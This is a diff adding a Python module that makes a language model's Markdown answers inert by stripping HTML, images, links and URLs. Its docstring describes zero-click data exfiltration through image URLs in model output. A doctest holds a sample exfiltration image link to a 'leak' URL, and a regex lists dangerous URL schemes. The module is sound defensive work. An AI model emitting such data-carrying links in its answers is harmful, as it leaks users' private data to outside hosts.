@@ -1,0 +1,56 @@
+"""Model output made inert before anyone displays it.
+
+A language model's answer is shown as Markdown in the app and returned by ``ask --json`` and
+``/ask``. Anything in it that a browser would fetch or follow on its own is a channel out of
+the page (an image URL carrying data read from the night is a zero-click exfiltration), so
+`inert_markdown` keeps only text and formatting: emphasis, lists, headings, tables, code. It
+removes raw HTML (tags and comments), images (inline and reference style), links (the text
+stays, the target goes), link reference definitions, autolinks and bare URLs. Figures the
+agent draws never travel as links in an answer: the app shows them as chat files of its own.
+The chat component's own HTML sanitiser (Gradio ``sanitize_html``) runs after this, as a second line.
+"""
+
+from __future__ import annotations
+
+import re
+
+__all__ = ["REMOVED_IMAGE", "REMOVED_LINK", "inert_markdown"]
+
+REMOVED_IMAGE = "(image removed)"
+REMOVED_LINK = "(link removed)"
+
+# A link/image target: "(url)", "(url 'title')", with one level of nested parentheses.
+_TARGET = r"\((?:[^()\n]|\([^()\n]*\))*\)"
+_LABEL = r"\[(?:[^\[\]\n]|\[[^\[\]\n]*\])*\]"
+
+_HTML_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.S)
+# A tag (opening, closing or self-closing), an autolink (<http://...>), a declaration or processing instruction.
+_HTML_TAG = re.compile(r"</?[A-Za-z][^<>]*>?|<[!?][^<>]*>?")
+_IMAGE = re.compile(rf"!{_LABEL}(?:{_TARGET}|\s*\[[^\]\n]*\])?")
+_LINK_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S+.*$", re.M)
+_INLINE_LINK = re.compile(rf"({_LABEL}){_TARGET}")
+_REFERENCE_LINK = re.compile(rf"({_LABEL})\[[^\]\n]*\]")
+_BARE_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript|vbscript|mailto|blob):[^\s<>()\[\]]*|\bwww\.[^\s<>()\[\]]+",
+                       re.IGNORECASE)
+
+
+def inert_markdown(text: str) -> str:
+    """`text` without raw HTML, images, links or URLs; plain text and Markdown formatting stay.
+
+    Examples
+    --------
+    >>> inert_markdown("AHI 12 ![x](http://host/leak?q=AHI) <img src=http://host/i> see [AASM](http://aasm.org)")
+    'AHI 12 (image removed)  see AASM'
+    >>> inert_markdown("**AHI < 5** is normal")
+    '**AHI < 5** is normal'
+    """
+    if not isinstance(text, str):
+        return text
+    text = _HTML_COMMENT.sub("", text)
+    text = _HTML_TAG.sub("", text)
+    text = _IMAGE.sub(REMOVED_IMAGE, text)
+    text = _LINK_DEFINITION.sub("", text)
+    text = _INLINE_LINK.sub(lambda m: m.group(1)[1:-1], text)
+    text = _REFERENCE_LINK.sub(lambda m: m.group(1)[1:-1], text)
+    text = _BARE_URL.sub(REMOVED_LINK, text)
+    return text
